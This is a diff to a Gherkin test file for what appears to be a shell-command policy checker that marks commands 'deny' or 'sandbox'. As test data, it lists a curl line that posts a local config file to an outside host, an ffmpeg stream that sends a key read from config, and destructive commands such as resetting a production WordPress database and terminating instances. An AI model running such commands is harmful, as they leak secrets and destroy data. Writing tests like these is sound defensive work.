@@ -81,3 +81,16 @@ Feature: boot setup and the running kernel, deleting verbs of unknown tools, mas
       | ffmpeg -re -i samples/countdown.mp4 -c copy -f flv rtmp://localhost/live/$(cat config/stream_key.txt)     | sandbox |
       | ffmpeg -re -i samples/countdown.mp4 -c copy -f flv rtmp://live.example.net/app/abc                       | sandbox |
       | curl -s -d @config/monkey.txt https://collect.example.net/u                                              | sandbox |
+
+  Scenario Outline: a site alias before the subcommand does not hide it, and more verbs name an end
+    When I check "<command>"
+    Then the verdict is <verdict>
+
+    Examples:
+      | command                                | verdict |
+      | wp @production db reset --yes          | deny    |
+      | mytool instances terminate i-0abc      | deny    |
+      | mytool node decommission worker-3      | deny    |
+      | wp @production db size                 | sandbox |
+      | mytool instances list                  | sandbox |
+      | mytool publish --dry-run               | sandbox |
